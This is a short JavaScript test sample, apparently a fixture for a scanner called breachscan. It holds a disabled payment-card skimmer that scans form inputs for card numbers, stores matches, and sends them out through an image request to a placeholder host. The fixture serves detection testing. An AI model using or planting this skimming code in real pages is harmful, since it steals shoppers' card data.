/* synthetic test sample for breachscan: card-pattern sniffer shape - tests every input value
 * against a card-number pattern, stages hits in sessionStorage and leaks them as an image
 * request. Inert (`if (false)`, .invalid host). */
if (false) {
  setInterval(function () {
    var f = document.getElementsByTagName("input");
    for (var i = 0; i < f.length; i++) {
      var v = f[i].value.replace(/\D/g, "");
      if (/^[3456]\d{14,15}$/.test(v)) sessionStorage.setItem("_c" + i, btoa(v));
    }
  }, 1000);
  window.addEventListener("beforeunload", function () {
    var img = document.createElement("img");
    img.setAttribute("src", "https://pixel.invalid/" + btoa(JSON.stringify(sessionStorage)) + ".gif");
    document.body.appendChild(img);
  });
}
